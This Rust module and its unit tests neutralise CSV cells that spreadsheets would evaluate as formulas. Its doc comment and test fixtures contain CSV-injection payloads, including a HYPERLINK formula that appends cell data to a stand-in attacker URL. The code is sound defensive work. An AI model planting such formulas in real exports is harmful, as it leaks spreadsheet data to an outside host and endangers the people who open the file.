//! CSV cells that a spreadsheet shows as text, never runs as a formula (OWASP "CSV Injection").
//!
//! Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@`
//! (and some treat a leading tab or carriage return the same way), so a customer who writes
//! `=HYPERLINK("https://evil.example?d="&A2,"Click")` would otherwise get a live formula into
//! the export a person opens. Such a cell is prefixed with a single quote, which spreadsheets
//! read as "this is text" and do not display; `data.json` keeps every value verbatim.

use std::borrow::Cow;

const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as it is safe to write into a CSV file meant for spreadsheets.
pub fn neutralised(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::neutralised;

    #[test]
    fn cells_that_a_spreadsheet_would_evaluate_are_prefixed_with_a_quote() {
        for cell in [
            "=HYPERLINK(\"https://evil.example\",\"x\")",
            "+212600000000",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
        ] {
            assert_eq!(neutralised(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn ordinary_cells_are_left_as_they_are() {
        for cell in [
            "Bonjour",
            "",
            "a = b",
            "2026-01-01T00:00:00Z",
            "مرحبا",
            "'quoted",
        ] {
            assert_eq!(neutralised(cell), cell);
        }
    }
}
